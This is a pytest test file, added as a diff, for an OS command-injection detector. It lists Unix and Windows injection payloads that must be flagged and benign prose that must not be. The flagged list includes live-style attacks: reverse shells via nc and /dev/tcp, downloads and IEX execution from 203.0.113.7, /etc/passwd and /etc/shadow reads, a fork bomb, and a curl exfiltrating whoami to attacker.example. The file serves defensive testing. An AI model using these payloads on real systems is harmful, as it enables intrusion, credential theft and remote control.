@@ -1,0 +1,113 @@
+"""OS command injection: what must fire and what must not, through the engine."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.detect.family_cases import benign_values, families, rule_ids
+
+# Unix and Windows injections, with the evasions attackers use.
+MUST_FIRE = [
+    "; cat /etc/passwd",
+    "1.1.1.1; id",
+    "127.0.0.1 && whoami",
+    "x || wget http://203.0.113.7/s.sh -O /tmp/s.sh",
+    "| nc -e /bin/sh 203.0.113.7 4444",
+    "`id`",
+    "$(whoami)",
+    "ax--exec=`id`--remote=origin",
+    "; cat /et'c/pa'ss'wd",
+    '; c""at /etc/shadow',
+    "| c\\at /etc/passwd",
+    "www.example.com;c$@at /et$@c/pas$@swd",
+    ";cat${IFS}/etc/passwd",
+    ";getent$IFS$9hosts$IFS$9example.org",
+    "{cat,/etc/passwd}",
+    "/bin/c?t /etc/p?sswd",
+    "/???/??t /???/p??s??",
+    "cat /etc/pa[s]swd",
+    "time sh -c whoami",
+    "nohup ifconfig",
+    "ifconfig eth0",
+    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+    "cat<<<ifconfig",
+    "echo hi > /tmp/x",
+    "$SHELL -c 'echo hi'",
+    "/usr/bin/perl -e 'print 1'",
+    'python3 -c "import os"',
+    "py''thon -c \"print(1)\"",
+    "pi``ng 127.0.0.1",
+    "alias ll='ls -al'",
+    "f(){ f|f& };f",
+    "{,ifconfig}",
+    "~+",
+    "a=curl&&b=`whoami`&&$a attacker.example/$b",
+    "|$u wget example.org",
+    ";set",
+    "\\ls",
+    "cd /;cd etc;column passwd",
+    "| set /a 3482*7301",
+    "& ping -n 5 127.0.0.1",
+    "cmd /c dir",
+    "cmd.exe /c whoami",
+    "powershell -enc SQBFAFgA",
+    "powershell C:\\windows\\system32\\notepad.exe",
+    "Invoke-WebRequest http://203.0.113.7/a.ps1",
+    ";iex (iwr http://203.0.113.7/x.ps1)",
+    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+    "for /f \"delims=\" %i in ('cmd /c whoami') do @echo %i",
+    "FOR %G IN (a,b,c) DO echo %G",
+    "IF EXIST C:\\pagefile.sys CMD",
+    'if "%VAR%" == "x" echo same',
+    "IF NOT DEFINED _example ECHO Value Missing",
+    "IF %ERRORLEVEL% NEQ 0 echo failed",
+]
+
+# Prose with command words and shell punctuation (and the shared benign set).
+MUST_NOT_FIRE = [
+    "cat food | dog food",
+    "rm 101",
+    "ls 300 lexus",
+    "nc 8000 controller",
+    "echo in the mirror",
+    "curl and divergence",
+    "bash away in the gym",
+    "Tom & Jerry",
+    "Marks & Spencer; more than a shop",
+    "Meeting; date TBD",
+    "Fish & chips | sort of",
+    "Raleigh\nNC 27601",
+    "PS: see the attached invoice",
+    "Please find the file; more info below",
+    "If defined by the user, the limit applies",
+    "for the month in (March) we paid twice",
+    "Use the bin/ folder for receipts",
+    "Total $100 (approx)",
+    "Salary for % in (Q1) reported",
+    "Sort by amount | then by date",
+    "/api/v1/payments?page=2",
+    "https://example.com/search?q=cat",
+    "&copy 2024 Example Bank",
+]
+
+
+@pytest.mark.parametrize("payload", MUST_FIRE)
+def test_injection_fires(payload: str) -> None:
+    assert "cmdi" in families(payload, "query", "host")
+
+
+@pytest.mark.parametrize("payload", MUST_NOT_FIRE + benign_values())
+def test_prose_passes(payload: str) -> None:
+    assert "cmdi" not in families(payload, "json", "$.memo")
+
+
+def test_value_start_needs_shell_arguments() -> None:
+    # A command word that opens a value counts only with shell-like
+    # arguments at paranoia 1; paranoia 2 is more eager.
+    assert "cmdi" not in families("curl and divergence")
+    assert "cmdi.unix_probable" in rule_ids("curl and divergence", paranoia=2)
+
+
+def test_batch_if_needs_a_command() -> None:
+    assert "cmdi.batch_if" not in rule_ids("If defined by the user, it applies")
+    assert "cmdi.batch_if" in rule_ids("IF DEFINED user ECHO yes")
